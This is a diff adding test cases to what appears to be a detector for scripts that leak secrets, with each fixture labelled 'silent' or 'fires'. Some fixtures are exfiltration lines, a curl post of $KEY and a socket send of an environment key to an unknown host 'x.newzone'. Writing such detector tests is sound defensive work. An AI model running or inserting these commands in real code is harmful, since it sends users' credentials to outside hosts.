@@ -198,6 +198,43 @@ export const COMMAND_CASES: Case[] = [
     'high',
     pair(script('run', ''), script('run', `#!/bin/sh\n${TOKEN_SENT}`)),
   ],
+  [
+    id,
+    'silent',
+    'attributes in a program',
+    '',
+    pair(
+      script('a.py', ''),
+      script(
+        'a.py',
+        'try:\n  urlopen(os.environ["API"])\nexcept HTTPError as e:\n  assert e.code == 503, exc.reason\n',
+      ),
+    ),
+  ],
+  [
+    id,
+    'silent',
+    'a name that is nobody’s',
+    '',
+    pair(
+      script('a.py', ''),
+      script('a.py', 'os.environ["API"] = "http://api.invalid/x"\nurlopen(os.environ["API"])\n'),
+    ),
+  ],
+  [
+    id,
+    'fires',
+    'a zone that nobody has heard of, in quotes',
+    'medium',
+    pair(script('a.py', ''), script('a.py', 'socket.create_connection(("x.newzone", 443)).send(os.environ["KEY"])\n')),
+  ],
+  [
+    id,
+    'fires',
+    'such a zone as a word of curl',
+    'medium',
+    pair(script('a.sh', ''), script('a.sh', '#!/bin/sh\ncurl -d $KEY x.newzone\n')),
+  ],
   [id, 'silent', 'a text that is no script', '', pair(script('notes', ''), script('notes', TOKEN_SENT))],
   [
     id,
